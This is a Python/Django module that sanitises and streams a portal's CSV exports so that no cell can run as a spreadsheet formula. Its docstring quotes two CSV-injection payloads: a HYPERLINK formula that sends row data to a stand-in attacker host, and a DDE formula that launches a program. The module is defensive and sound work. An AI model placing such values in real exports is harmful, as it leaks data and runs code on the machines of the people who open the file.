"""Every CSV file the portal writes goes through here, so no cell can run as a spreadsheet formula.

A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a mailing address `=HYPERLINK("https://evil.example/?d="&B2,"Open")`
sends the row to an attacker when staff click it, and `-2+3+cmd|' /C calc'!A0` asks to run a
program. Following OWASP's rule, such a cell is written with a single quote in front, which
spreadsheets show as text and do not evaluate. A plain number (`+18005551212`, `-12.50`) is
never a formula, so it is written as it is. Every cell is quoted, so a `;` or a tab inside a
value cannot start a new cell in a spreadsheet that splits on those instead of commas.
"""

import csv
import re
from collections.abc import Iterable, Iterator, Sequence

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A streamed file goes out in pieces of about this many characters: one write to the socket for
# dozens of rows instead of one for each (gunicorn sends every piece it is handed at once).
CHUNK_SIZE = 16 * 1024
# An optional sign, digits, an optional decimal part: a number, never a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def csv_cell(value: object) -> str:
    """`value` as one safe cell: None is empty, a would-be formula gets a leading single quote."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() returns the line, for csv.writer in a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The header and then each row as one CSV line, every cell made safe and quoted."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    yield writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def in_chunks(lines: Iterable[str], size: int = CHUNK_SIZE) -> Iterator[str]:
    """`lines` joined into pieces of at least `size` characters (the last one shorter), each
    sent as soon as it is full, so a large file is never held whole."""
    piece: list[str] = []
    length = 0
    for line in lines:
        piece.append(line)
        length += len(line)
        if length >= size:
            yield "".join(piece)
            piece, length = [], 0
    if piece:
        yield "".join(piece)


def csv_download(
    *, filename: str, header: Sequence[str], rows: Iterable[Sequence[object]]
) -> StreamingHttpResponse:
    """A CSV attachment streamed in pieces of rows (exports can be large), never kept by a cache."""
    response = StreamingHttpResponse(
        in_chunks(csv_lines(header, rows)), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
